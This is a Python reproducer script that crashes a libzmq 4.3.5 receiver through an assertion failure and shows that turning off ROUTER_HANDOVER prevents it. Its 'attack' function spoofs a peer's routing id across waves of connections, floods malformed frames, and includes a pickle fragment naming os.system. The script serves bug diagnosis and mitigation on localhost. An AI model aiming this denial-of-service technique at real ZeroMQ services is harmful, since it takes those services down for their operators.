"""Reproduce libzmq 4.3.5's `Assertion failed: !_io_error (src/stream_engine_base.cpp:310)`
abort, and show what prevents it (issue 13).

A ZmqTransport as a node opens it (plaintext) reads in a loop; a well-behaved peer "b" stays
connected and sends; an attacker opens waves of connections that claim b's routing id and a
stranger's, sends garbage and closes them (half with LINGER 0). With ROUTER_HANDOVER on,
the receiving process usually aborts within seconds; without it, it does not.

    python scripts/libzmq_handover_abort.py --runs 3 --handover 1   # aborts (rc -6)
    python scripts/libzmq_handover_abort.py --runs 3 --handover 0   # survives (rc 0)
"""

from __future__ import annotations

import argparse
import subprocess
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

GARBAGE = ([b"\xc1"], [b"\x80\x04\x95cos\nsystem\n"], [b"\xdd\xff\xff\xff\xff"], [b"x"] * 5000, [b""])


def serve(port: int, handover: int, seconds: float) -> None:
    import zmq

    from swarm.transport.zeromq import ZmqSettings, ZmqTransport

    settings = ZmqSettings(max_frame_bytes=1 << 20, max_frames=20, recv_hwm=16)
    transport = ZmqTransport("a", f"tcp://127.0.0.1:{port}", {"b": f"tcp://127.0.0.1:{port + 1}"}, settings).open()
    transport.router.setsockopt(zmq.ROUTER_HANDOVER, handover)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        transport.receive(0.05)


def peer_b(port: int, seconds: float) -> None:
    import zmq

    context = zmq.Context()
    sock = context.socket(zmq.DEALER)
    for option, value in ((zmq.ROUTING_ID, b"b"), (zmq.LINGER, 0), (zmq.HEARTBEAT_IVL, 1000),
                          (zmq.HEARTBEAT_TIMEOUT, 5000), (zmq.IMMEDIATE, 1), (zmq.RECONNECT_IVL, 100)):
        sock.setsockopt(option, value)
    sock.connect(f"tcp://127.0.0.1:{port}")
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            sock.send(b"\x93\x01\x02\x03" * 200, flags=zmq.NOBLOCK)
        except zmq.Again:
            pass
        time.sleep(0.005)
    sock.close()
    context.term()


def attack(port: int, waves: int) -> None:
    import zmq

    context = zmq.Context()
    for _ in range(waves):
        sockets = []
        for routing_id, linger in ((b"mallory", 0), (b"b", 1000)):
            sock = context.socket(zmq.DEALER)
            sock.setsockopt(zmq.LINGER, linger)
            sock.setsockopt(zmq.ROUTING_ID, routing_id)
            sock.connect(f"tcp://127.0.0.1:{port}")
            sockets.append(sock)
        for payload in GARBAGE:
            for sock in sockets:
                sock.send_multipart(payload)
        for sock in sockets:
            sock.close()
        time.sleep(0.05)
    context.term()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--runs", type=int, default=3)
    parser.add_argument("--handover", type=int, choices=(0, 1), default=1)
    parser.add_argument("--port", type=int, default=18641)
    parser.add_argument("--role", choices=("serve", "peer-b", "attack"), help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.role == "serve":
        return serve(args.port, args.handover, 25.0)
    if args.role == "peer-b":
        return peer_b(args.port, 22.0)
    if args.role == "attack":
        return attack(args.port, 250)
    me = [sys.executable, __file__, "--port", str(args.port), "--handover", str(args.handover), "--role"]
    aborted = 0
    for run in range(args.runs):
        server = subprocess.Popen([*me, "serve"], stderr=subprocess.PIPE, text=True)
        time.sleep(1.0)
        b = subprocess.Popen([*me, "peer-b"])
        subprocess.run([*me, "attack"], timeout=120)
        rc = server.wait(60)
        b.kill()
        b.wait()
        said = [line for line in server.stderr.read().splitlines() if "Assertion" in line]
        aborted += rc != 0
        print(f"run {run + 1}: handover={args.handover} exit {rc}" + (f" ({said[0]})" if said else ""))
    print(f"aborted {aborted} of {args.runs} runs")


if __name__ == "__main__":
    main()
